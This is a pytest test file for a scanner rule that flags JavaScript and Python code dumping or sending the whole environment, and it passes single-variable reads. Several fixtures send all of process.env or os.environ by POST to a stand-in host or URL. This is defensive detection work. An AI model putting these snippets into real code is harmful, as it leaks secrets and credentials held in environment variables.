"""code/env-exfiltration: the whole environment serialized or sent; single variables are fine."""

from __future__ import annotations

import pytest
from code_support import levels, scan, where

from extgate.model import Level

RULE = "code/env-exfiltration"


@pytest.mark.parametrize(
    ("source", "line", "column"),
    [
        ("const dump = JSON.stringify(process.env);", 1, 14),
        ("Object.entries(process.env).forEach(send);", 1, 1),
        ("Object.values(process.env);", 1, 1),
        ('const util = require("util");\nutil.inspect(process.env);', 2, 1),
        ("JSON.stringify({ ...process.env });", 1, 1),
        ("JSON.stringify({ host, env: process.env });", 1, 1),
        ('fetch("https://x.example", { method: "POST", body: process.env });', 1, 1),
        ('const copy = { ...process.env };\naxios.post("https://x.example", copy);', 2, 1),
        ("const e = process.env;\nnavigator.sendBeacon(url, JSON.stringify(e));", 2, 27),
        ("client.post(url, Object.assign({}, process.env));", 1, 1),
        ("const env = Deno.env.toObject();", 1, 13),
        ("JSON.stringify(Bun.env);", 1, 1),
        ('import { env } from "node:process";\nJSON.stringify(env);', 2, 1),
        ('import https from "https";\nhttps.request({ headers: { ...process.env } });', 2, 1),
    ],
)
def test_whole_environment_is_flagged(source: str, line: int, column: int) -> None:
    found = scan("a.mjs", source, RULE)
    assert where(found) == [(line, column)]
    assert levels(found) == [Level.ERROR]


@pytest.mark.parametrize(
    "source",
    [
        "const home = process.env.HOME; const t = process.env['TOKEN'];",
        "fetch(url, { headers: { authorization: process.env.API_TOKEN } });",
        "Object.keys(process.env).filter((k) => k.startsWith('REACT_APP_'));",
        'const cp = require("child_process");\ncp.spawn(cmd, [], { env: { ...process.env, X: "1" } });',
        "spawn(cmd, { env: Object.assign({}, process.env, { NODE_ENV: 'test' }) });",
        "JSON.stringify(config.env); JSON.stringify(env);",
        "// JSON.stringify(process.env)",
        "Deno.env.get('HOME');",
    ],
)
def test_single_variables_and_child_env_are_fine(source: str) -> None:
    assert scan("a.js", source, RULE) == []


def test_nested_serializers_report_once() -> None:
    found = scan("a.js", "fetch(u, { body: btoa(JSON.stringify(process.env)) });", RULE)
    assert where(found) == [(1, 23)]


@pytest.mark.parametrize(
    ("source", "line"),
    [
        ("import os, json\njson.dumps(os.environ)\n", 2),
        ("import os\nstr(os.environ)\n", 2),
        ("import os\nprint(f'{os.environ}')\n", 2),
        ("import os\n'%s' % (os.environ,)\n", 2),
        ("import os\n'{}'.format(os.environ)\n", 2),
        ("import os, json\njson.dumps(dict(os.environ))\n", 2),
        ("import os, requests\nrequests.post(url, json=dict(os.environ))\n", 2),
        ("import os, requests\nrequests.post(url, data={**os.environ})\n", 2),
        ("import os\nsession.post(url, json=os.environ.copy())\n", 2),
        ("from os import environ\nimport urllib.parse\nurllib.parse.urlencode(environ)\n", 3),
    ],
)
def test_python_whole_environment(source: str, line: int) -> None:
    found = scan("tool.py", source, RULE)
    assert [f.location.line for f in found if f.location] == [line]


@pytest.mark.parametrize(
    "source",
    [
        "import os\nhome = os.environ['HOME']\ntoken = os.environ.get('TOKEN')\nos.getenv('X')\n",
        "import os, subprocess\nenv = dict(os.environ)\nenv['X'] = '1'\nsubprocess.run(cmd, env=env)\n",
        "import os\nenv = os.environ.copy()\n",
        "import json\njson.dumps(config)\n",
    ],
)
def test_python_single_variables_are_fine(source: str) -> None:
    assert scan("tool.py", source, RULE) == []
